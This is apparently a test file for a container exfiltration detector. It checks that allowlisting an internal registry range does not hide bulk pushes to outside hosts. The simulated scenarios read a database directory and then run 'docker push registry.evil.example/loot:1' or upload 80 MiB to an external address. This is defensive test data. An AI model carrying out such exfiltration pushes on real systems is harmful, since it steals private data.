/**
 * A CIDR allowlist entry exempts a push only when every address the push itself sent to is in the range: a
 * docker daemon's bridged upload (linked by time, maybe another pod's) counts only for a push with no
 * address of its own, and one connection into the range does not cover bytes sent elsewhere.
 */
import { describe, expect, it } from 'vitest';
import { MiB, run, Scenario } from './builder.js';

const allowlist = [{ destination: '10.20.0.0/16', reason: 'the internal registry' }];

describe('allowlist CIDR entries and addresses the push did not choose or did not send its bytes to', () => {
  it("another pod's dockerd upload to the allowlisted internal registry does not exempt this pod's docker push to an outside registry", () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'apps' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 100, MiB);
    s.exec(c, '/usr/bin/docker', 'push registry.evil.example/loot:1', { parent: sh });
    const dockerd = s.hostProc('/usr/bin/dockerd', '-H fd://');
    // A CI pod's push to the internal registry, through the same node's dockerd, at the same time.
    s.wait(500)
      .connect(dockerd, '10.20.0.5', 5000)
      .send(dockerd, '10.20.0.5', 5000, 4 * MiB);
    s.wait(500).connect(dockerd, '203.0.113.9', 443);
    for (let i = 0; i < 100; i++) s.send(dockerd, '203.0.113.9', 443, MiB);
    const alerts = run(s.events, { allowlist }).alerts;
    expect(alerts.map((a) => [a.rule, a.push.destination])).toEqual([['bulk-read-then-push', 'registry.evil.example']]);
  });

  it('a push by egress that also touched the internal registry is not exempt for its bytes sent elsewhere', () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'apps' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 100, MiB);
    const up = s.exec(c, '/opt/up', '--note https://github.com/acme/app', { parent: sh });
    s.connect(up, '203.0.113.66', 443).send(up, '203.0.113.66', 443, 80 * MiB);
    s.wait(100).connect(up, '10.20.0.5', 5000).send(up, '10.20.0.5', 5000, 100);
    const alerts = run(s.events, { allowlist }).alerts;
    expect(alerts).toHaveLength(1);
  });
});
